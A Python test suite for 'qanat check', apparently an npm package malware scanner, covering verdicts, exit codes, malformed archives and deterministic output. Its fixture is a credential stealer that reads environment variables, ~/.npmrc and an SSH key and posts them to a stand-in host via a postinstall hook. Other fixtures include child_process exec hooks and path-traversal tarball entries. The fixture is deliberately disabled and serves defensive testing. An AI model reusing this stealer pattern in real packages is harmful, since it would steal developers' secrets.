"""qanat check as its users meet it: answers, exit status, bad input, determinism."""
import json
import os
import tarfile

from tap import (check, done, ok, package, put, Run, scratch, tar_of, tgz_of, verdicts, without_times)

GOOD = {
    "package.json": package(main="index.js"),
    "index.js": "const fs = require('node:fs');\nmodule.exports = p => JSON.parse(fs.readFileSync(p, 'utf8'));\n",
    "README.md": "# example\nReads JSON.\n",
}

# Inert: the host does not exist, and the first line ends the script.
STEALER = """if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const fs = require('fs'), os = require('os'), https = require('https'), path = require('path');
const loot = {
  env: process.env,
  npmrc: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'),
  key: fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'),
};
const req = https.request({ hostname: 'collect.example.invalid', path: '/in', method: 'POST' });
req.write(Buffer.from(JSON.stringify(loot)).toString('base64'));
req.end();
"""
BAD = {
    "package.json": package("evil", scripts={"postinstall": "node setup.js"}),
    "setup.js": STEALER,
    "index.js": "module.exports = {};\n",
}


def answers(d):
    good, bad = put(f"{d}/good.tgz", tgz_of(GOOD)), put(f"{d}/bad.tgz", tgz_of(BAD))
    r = check(good)
    ok(r.code == 0 and verdicts(r) == ["clean"], "an ordinary package is clean", r)
    ok(r.json["schema"] == "qanat.check/1", "the report names its schema", r)
    res = r.json["results"][0]
    ok((res["name"], res["version"], res["target"]) == ("example", "1.0.0", good), "name, version and target are told", res)
    ok(res["integrity"].startswith("sha512-"), "the integrity of what was analysed is told", res)
    r = check(bad)
    ok(r.code == 1 and verdicts(r) == ["malicious"], "a token thief in an install hook is malicious", r)
    f = r.json["results"][0]["findings"]
    ok(f and f[0]["phase"] == "install" and f[0]["layer"] == "static", "its finding says when it would run", f)
    ok(any(e["file"] == "setup.js" and e["line"] > 1 for x in f for e in x["evidence"]), "the evidence says where", f)
    ok(all(t.startswith("T") for x in f for t in x["tactics"]), "tactics are ATT&CK identifiers", f)
    r = check("--fail-on", "malicious", bad, good)
    ok(r.code == 1 and sorted(verdicts(r)) == ["clean", "malicious"], "several targets in one run", r)
    r = Run("check", bad)
    ok(r.code == 1 and b"evil" in r.out and b"setup.js" in r.out, "the text names package and place", r)
    ok(b"\x1b" not in r.out, "no colour where there is no terminal", r)
    ok(b"collect.example.invalid" not in r.out, "addresses are defanged in text", r)
    r = Run("check", "--format", "sarif", bad)
    ok(r.code == 1 and json.loads(r.out)["version"] == "2.1.0", "SARIF", r)
    put(f"{d}/plain.tar", tar_of(BAD))
    ok(verdicts(check(f"{d}/plain.tar")) == ["malicious"], "a tar archive without gzip", "")


def directories(d):
    for name, files in (("g", GOOD), ("b", BAD)):
        for path, text in files.items():
            put(f"{d}/{name}/{path}", text)
    ok(verdicts(check(f"{d}/g")) == ["clean"], "a directory", check(f"{d}/g"))
    ok(verdicts(check(f"{d}/b")) == ["malicious"], "a bad directory", check(f"{d}/b"))
    ok(verdicts(check(f"{d}/g", env={"PATH": "/nonexistent"})) == ["clean"], "a directory without a lock file needs no npm", "")
    r = check(cwd=f"{d}/b")
    ok(r.code == 1 and r.json["results"][0]["target"] == ".", "no target means the directory one stands in", r)
    os.makedirs(f"{d}/empty")
    r = check(f"{d}/empty")
    ok(r.code in (2, 3) and r.out + r.err, "a directory without package.json is not clean", r)
    put(f"{d}/y/package.json", package())
    put(f"{d}/y/yarn.lock", "# yarn lockfile v1\n<<<<<<< HEAD\n")
    r = check(f"{d}/y")
    ok(r.code == 3 and "unknown" in verdicts(r), "a lock file that cannot be read is not passed over", r)
    put(f"{d}/n/package.json", package())
    put(f"{d}/n/node_modules/.yarn-integrity", "{}")
    put(f"{d}/n/node_modules/x/index.js", STEALER)
    r = check(f"{d}/n")
    ok(r.code == 3, "an installed tree without lock file is not clean", r)
    os.symlink("/etc/passwd", f"{d}/g/link")
    ok(verdicts(check(f"{d}/g")) == ["clean"], "a link that leads out of the directory is not followed", "")


def usage(d):
    for args, word in ((["./no-such.tgz"], "no-such"), (["Not A Name"], "Not A Name"), (["--nope"], "nope"),
                       (["--format", "yaml", "x"], "format"), ([""], "empty")):
        r = Run("check", *args)
        ok(r.code == 2 and word in r.err.decode() and r.err.count(b"\n") == 1 and not r.out,
           f"wrong use is one line and exit 2: {args}", r)
    put(f"{d}/empty.tgz", b"")
    ok(Run("check", f"{d}/empty.tgz").code == 2, "an empty file", "")
    secret = put(f"{d}/secret.tgz", tgz_of(GOOD))
    os.chmod(secret, 0)
    if os.geteuid() != 0:
        ok(Run("check", secret).code == 2, "an unreadable file", "")
    put(f"{d}/text.json", "[1]")
    r = Run("check", f"{d}/text.json")
    ok(r.code == 2, "a JSON file that is no object", r)
    for text, word in (('{"name":"x","version":"1.0.0"}', "lock"), ('{"lockfileVersion":99,"packages":{}}', "99"), ("{", ""),
                       ('{"lockfileVersion":3,"packages":' + "[" * 10000 + "]" * 10000 + "}", "")):
        put(f"{d}/package-lock.json", text)
        r = check(f"{d}/package-lock.json")
        ok(r.code == 3 and verdicts(r) == ["unknown"] and word in r.json["results"][0]["reason"],
           f"not a lock file: {text[:40]}", r)


def entry(name, kind=tarfile.REGTYPE, link="", mode=0o644):
    e = tarfile.TarInfo(name)
    e.type, e.linkname, e.mode = kind, link, mode
    return e


def archives(d):
    good = tgz_of(GOOD)
    base = [(entry("package/" + k), v.encode()) for k, v in GOOD.items()]
    odd = {
        "cut gzip": good[: len(good) // 2],
        "corrupt gzip": good[:40] + bytes([good[40] ^ 0xFF]) + good[41:],
        "only a header": good[:10],
        "not gzip": b"hello, this is no tarball",
        "empty archive": tgz_of({}),
        "no package.json": tgz_of({"index.js": "1\n"}),
        "package.json that is none": tgz_of({"package.json": "{nope"}),
        "package.json 10,000 levels deep": tgz_of({"package.json": '{"a":' * 10000 + "1" + "}" * 10000}),
        "package.json with NUL": tgz_of({"package.json": '{"name":"a\0b"}'}),
        "package.json with invalid UTF-8": tgz_of({"package.json": b'{"name":"a\xff"}'}),
        "absolute path": tgz_of(base + [(entry("/etc/cron.d/x"), b"x")]),
        "path that leaves": tgz_of(base + [(entry("package/../../x"), b"x")]),
        "symbolic link": tgz_of(base + [(entry("package/l", tarfile.SYMTYPE, "/etc/passwd"), b"")]),
        "hard link": tgz_of(base + [(entry("package/l", tarfile.LNKTYPE, "package/index.js"), b"")]),
        "device": tgz_of(base + [(entry("package/dev", tarfile.CHRTYPE), b"")]),
    }
    for name, data in odd.items():
        path = put(f"{d}/{name.replace(' ', '-')}.tgz", data)
        r = check(path)
        ok(r.code == 3 and verdicts(r) == ["unknown"] and len(r.json["results"][0]["reason"]) > 10,
           f"unknown with a reason: {name}", r)
    twice = put(f"{d}/twice.tgz", tgz_of(base + [(entry("package/index.js"), b"require('child_process')\n")]))
    ok(verdicts(check(twice)) == ["suspicious"], "two files of one name are worse than unknown", check(twice))
    hidden = put(f"{d}/nul.tgz", tgz_of({**BAD, "setup.js": "// \0\1\2\0 not text?\n" + STEALER}))
    ok(verdicts(check(hidden)) == ["malicious"], "NUL bytes do not hide a program", check(hidden))
    bad = put(f"{d}/bad-and-cut.tgz", tgz_of(BAD)[:-40])
    ok(check(bad).code in (1, 3), "a cut archive of a bad package is not clean", check(bad))


def documents(d):
    """--packument: what the registry's document tells is looked at too."""
    doc = {"_id": "example", "name": "example", "time": {"1.0.0": "2024-01-01T00:00:00.000Z"},
           "versions": {"1.0.0": {"name": "example", "version": "1.0.0", "scripts": {"postinstall": "node other.js"}}}}
    good = put(f"{d}/good.tgz", tgz_of(GOOD))
    path = put(f"{d}/doc.json", json.dumps(doc).encode())
    r = check("--packument", path, good)
    ok(verdicts(r) == ["suspicious"], "a document that shows another install script", r)
    doc["versions"]["1.0.0"].pop("scripts")
    path = put(f"{d}/doc.json", json.dumps(doc).encode())
    ok(verdicts(check("--packument", path, good)) == ["clean"], "a document that agrees", "")
    ok(b"first-version" in Run("events", "--packument", path, good).out, "events of the document", "")
    path = put(f"{d}/doc.json", b"{ no json")
    ok(verdicts(check("--packument", path, good)) == ["unknown"], "a document that cannot be read is not clean", "")
    ok(check("--packument", f"{d}/none.json", good).code == 2, "a document that is not there", "")
    ok(check("--packument", path, good, good).code == 2, "one document for two targets", "")


def determinism(d):
    files = dict(BAD)
    for i in range(40):
        files[f"lib/f{i}.js"] = f"const cp = require('child_process');\nexports.run{i} = () => cp.exec('ls {i}');\n"
    want = None
    same = 0
    for i in range(100):
        path = put(f"{d}/det.tgz", tgz_of(files, order=i))
        out = without_times(check("--jobs", "4" if i % 2 else "1", path).out)
        doc = json.loads(out)
        doc["results"][0].pop("integrity")
        want = want or doc
        same += doc == want
    ok(same == 100, "100 runs, shuffled files, 1 and 4 workers: the same report", f"{same} of 100")
    hook = {"binding.gyp": """{"targets":[{"target_name":"a","sources":["<!(node -e \\"require('nan')\\")"]}]}""",
            "package.json": package(scripts={"preinstall": "node -e \"require('child_process').exec('id')\""})}
    events = {Run("events", put(f"{d}/hook.tgz", tgz_of({**files, **hook}, order=i))).out for i in range(8)}
    ok(len(events) == 1 and b"  binding.gyp:" in min(events) and b"  package.json:" in min(events),
       "code in commands stands where the command does, whatever the order of files", b"\n".join(events).decode())
    many = [put(f"{d}/m{i}.tgz", tgz_of({**GOOD, "package.json": package(f"p{i}")})) for i in range(30)] + [path]
    one = without_times(check("--jobs", "1", *many).out)
    four = without_times(check("--jobs", "4", *many).out)
    ok(one == four, "many packages, 1 and 4 workers: the same bytes", "")


for part in (answers, directories, usage, archives, documents, determinism):
    with scratch() as where:
        part(where)
done()
